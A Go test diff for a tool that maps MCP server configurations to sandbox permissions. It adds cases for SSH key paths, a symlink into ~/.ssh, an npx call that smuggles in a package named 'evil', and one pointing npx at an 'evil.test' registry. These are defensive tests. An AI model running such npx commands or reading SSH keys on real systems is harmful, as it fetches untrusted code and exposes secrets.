@@ -15,6 +15,8 @@ func TestGrants(t *testing.T) {
 	docs, data := filepath.Join(h.Home, "docs"), filepath.Join(h.Home, "data.json")
 	must(t, os.Mkdir(docs, 0o700))
 	write(t, data, "{}")
+	write(t, filepath.Join(h.Home, ".ssh/id_rsa"), "")
+	must(t, os.Symlink(filepath.Join(h.Home, ".ssh"), filepath.Join(h.Home, "link")))
 	script := filepath.Join(h.Home, "server.js")
 	write(t, script, "")
 	write(t, filepath.Join(h.Project, "vars.env"), "# a comment\nexport TOKEN=x\nNAME = y\nnot a line\n")
@@ -31,6 +33,10 @@ func TestGrants(t *testing.T) {
 		"other variable":    {"roo", `{"command": "mine", "args": ["${env:WHERE}/docs"]}`, "", "the directory that it is started in (read write)", ""},
 		"no variable":       {"codex", `{"command": "mine", "args": ["${userHome}/docs"]}`, "", "the directory that it is started in (read write)", ""},
 		"file of variables": {"vscode", `{"command": "mine", "envFile": "${workspaceFolder}/vars.env"}`, "--env TOKEN --env NAME", "variable TOKEN, variable NAME, the directory that it is started in (read write)", ""},
+		"sensitive path":    {"claude-code", `{"command": "mine", "args": ["` + h.Home + `/.ssh/id_rsa", "` + h.Home + `/link"]}`, "", "the directory that it is started in (read write)", "id_rsa is not granted, because it belongs to ~/.ssh"},
+		"sensitive, preset": {"claude-code", `{"command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem", "` + h.Home + `/.ssh"]}`, "--preset filesystem", h.Home + "/.ssh (read write)", "belongs to ~/.ssh, which holds secrets"},
+		"two packages":      {"claude-code", `{"command": "npx", "args": ["-p", "tavily-mcp", "-p", "evil", "evil"]}`, "", "the directory that it is started in (read write)", ""},
+		"another registry":  {"claude-code", `{"command": "npx", "args": ["--registry=https://evil.test", "-y", "tavily-mcp"]}`, "", "the directory that it is started in (read write)", ""},
 		"preset":            {"cursor", `{"command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem", "` + docs + `"]}`, "--preset filesystem", docs + " (read write)", ""},
 		"preset and more":   {"cursor", `{"command": "npx", "args": ["-y", "tavily-mcp@1.2"], "env": {"TAVILY_API_KEY": "k", "PAGER": "less"}}`, "--preset tavily --env PAGER", "variable PAGER, api.tavily.com (with the secret TAVILY_API_KEY)", ""},
 	} {
